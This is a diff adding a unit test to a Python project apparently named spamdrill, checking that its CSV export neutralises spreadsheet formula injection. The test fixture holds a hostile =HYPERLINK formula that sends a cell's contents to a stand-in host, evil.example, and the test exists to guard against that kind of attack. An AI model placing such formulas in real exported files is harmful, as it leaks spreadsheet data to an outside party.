@@ -22,7 +22,7 @@ from hypothesis import strategies as st
 
 from spamdrill import runmodel
 from spamdrill.budget import model
-from spamdrill.render import budget_html, compare, html, page
+from spamdrill.render import budget_html, compare, csvout, html, page
 
 RUNS = Path(__file__).parent / "data" / "runs"
 SENTINELS = ("Z<Z", 'Z"Z', "Z'Z")
@@ -157,6 +157,21 @@ def test_plot_json_cannot_end_its_script() -> None:
     data = str(page.plot_json(p))
     assert not set("<>&'") & set(data)
     assert json.loads(data)["doc"]  # still the same JSON
+
+
+@pytest.mark.unit
+def test_csv_cells_are_never_formulas() -> None:
+    """A spreadsheet runs a cell that starts with = + - @: a reason of
+    ``=HYPERLINK(...)`` would be one. Such text starts with an apostrophe; numbers stay."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    run = decoded(hostile_document("before", [formula, "@SUM(1)", "-2+3", "+1", "\t=1"]))
+    tables = csvout.rows(run)
+    cells = [c for table in tables.values() for row in table for c in row]
+    texts = [c for c in cells if isinstance(c, str) and c]
+    assert texts and not [c for c in texts if c.startswith(csvout.FORMULA_START)
+                          and not c.lstrip("+-").replace(".", "", 1).isdigit()]
+    assert f"'{formula}" in texts and "'-2+3" in texts
+    assert csvout._text("-1.5") == "-1.5" and csvout._text(3) == 3
 
 
 # -- in chromium: the page draws, and its policy holds ---------------------------------------
